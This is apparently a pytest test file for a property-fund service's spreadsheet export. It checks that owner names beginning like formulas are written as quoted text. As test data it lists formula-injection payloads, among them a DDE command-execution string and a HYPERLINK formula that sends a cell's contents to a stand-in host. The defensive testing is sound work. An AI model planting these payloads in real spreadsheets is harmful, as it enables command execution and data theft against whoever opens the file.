"""Spreadsheet formula injection: user text that starts like a formula is exported as text."""

from __future__ import annotations

from io import BytesIO

import openpyxl
import pytest
from openpyxl import Workbook

from fundflow.service.exports import safe_append
from tests.support.flows import Flow

HOSTILE_OWNERS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


def _written(value):
    """``value`` appended with safe_append, saved and read back: (value, data_type, quotePrefix)."""
    wb = Workbook()
    safe_append(wb.active, [value])
    out = BytesIO()
    wb.save(out)
    cell = openpyxl.load_workbook(BytesIO(out.getvalue())).active["A1"]
    return cell.value, cell.data_type, cell.quotePrefix


@pytest.mark.parametrize("text", HOSTILE_OWNERS)
def test_safe_append_writes_formula_starts_as_text(text):
    value, data_type, quoted = _written(text)
    # the text is kept as typed, except that a carriage return may come back as a line feed: the
    # standard library's XML reader normalises it, lxml (which openpyxl prefers once python-docx
    # has installed it) keeps it
    assert value in (text, text.replace("\r", "\n"))
    assert (data_type, quoted) == ("s", True)


@pytest.mark.parametrize("value", ["张三", "1栋", "a=b", " =1", 12])
def test_safe_append_leaves_everything_else_alone(value):
    written, _, quoted = _written(value)
    assert written == value and not quoted


def test_the_apportionment_export_writes_hostile_owner_names_as_text(world):
    lines = ["楼栋,单元,房号,建筑面积,业主,分户账余额,首次交存额"]
    lines += [
        f'1栋,3单元,{301 + i},80,"{o.replace(chr(34), chr(34) * 2)}",10000,10000' for i, o in enumerate(HOSTILE_OWNERS)
    ]
    r = world.client.post(
        f"/api/v1/communities/{world.ids['community_a']}/households",
        content="\r\n".join(lines).encode(),
        headers=world.h("so", **{"Content-Type": "text/csv"}),
    )
    assert r.status_code == 201, r.text
    flow = Flow(world)
    case = flow.open(title="=1+1 消防管网")
    flow.advance(case, "advance_payment", approved="80000.00")
    r = world.client.get(f"/api/v1/cases/{case}/apportionment.xlsx", headers=world.h("fc"))
    assert r.status_code == 200
    ws = openpyxl.load_workbook(BytesIO(r.content)).active
    formulas = [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert formulas and all(c.endswith(str(ws.max_row)) for c in formulas)  # only the export's own totals
    owners = [c for (c,) in ws.iter_rows(min_row=4, max_row=ws.max_row - 1, min_col=4, max_col=4) if c.value]
    assert sorted(c.value for c in owners) == sorted(o.strip() for o in HOSTILE_OWNERS)  # the import strips
    assert all(c.data_type == "s" for c in owners)
    assert ws["A1"].data_type == "s"
